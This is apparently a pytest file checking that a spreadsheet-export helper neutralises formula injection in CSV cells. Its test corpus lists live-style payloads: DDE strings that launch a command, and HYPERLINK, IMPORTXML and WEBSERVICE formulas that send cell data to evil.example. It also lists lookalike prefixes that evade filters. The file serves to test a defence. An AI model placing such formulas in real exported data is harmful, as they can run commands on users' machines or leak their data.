"""Cells for spreadsheets: none runs, and nothing is lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from touchline.vocabulary.spreadsheets import csv_row, defused, undefused

#: Formulas as they are found in the wild.
CORPUS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")", "=WEBSERVICE(\"https://evil.example\")",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u00a0=1+1", "\u202e=1+1", "\0=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u22121+1", "﹢1",
    "﹦1",
    "﹣1", "﹫a", "'=1+1", "''=1+1", "=", "-", "+", "@", "\t", "\r\n", "=\"a\"&\"b\"", "-late", "+49 (170) 1", "@ann",
]  # fmt: skip
PLAIN = ["", "late", "1", "-1", "+1", "-1.5", "+1,5e-3", "-7%", "+491701234567", "it's =1", "'tis", "a=1", "5-4"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("text", CORPUS)
def test_a_formula_becomes_text_and_comes_back(text):
    assert defused(text) == "'" + text
    assert undefused(defused(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_all_else_stays_as_it_is(text):
    assert defused(text) == text
    assert undefused(text) == text


@pytest.mark.parametrize("value", [1, -1, -1.5, None, True, b"=1"])
def test_what_is_no_text_stays_as_it_is(value):
    assert defused(value) is value


words = st.one_of(st.text(), st.builds(str.__add__, st.sampled_from(["'", "''", *STARTS]), st.text()))


@given(words)
def test_no_cell_runs_and_the_way_back_is_exact(text):
    cell = defused(text)
    assert undefused(cell) == text
    if cell.startswith(STARTS):
        assert cell == text
        float(cell.replace(",", "").rstrip("%").replace(".", ""))  # a number, and nothing else


@given(st.lists(st.lists(words, min_size=2, max_size=2), max_size=5), st.booleans())
def test_through_a_csv_file_and_back(rows, exact):
    text = "".join(csv_row(row, exact=exact) for row in rows)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert [cells if exact else [undefused(cell) for cell in cells] for cells in read] == rows


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_a_line_end_in_a_cell_begins_no_row(end):
    assert csv_row([f"late{end}=1+1", "b"]) == f'"late{end}=1+1",b\n'
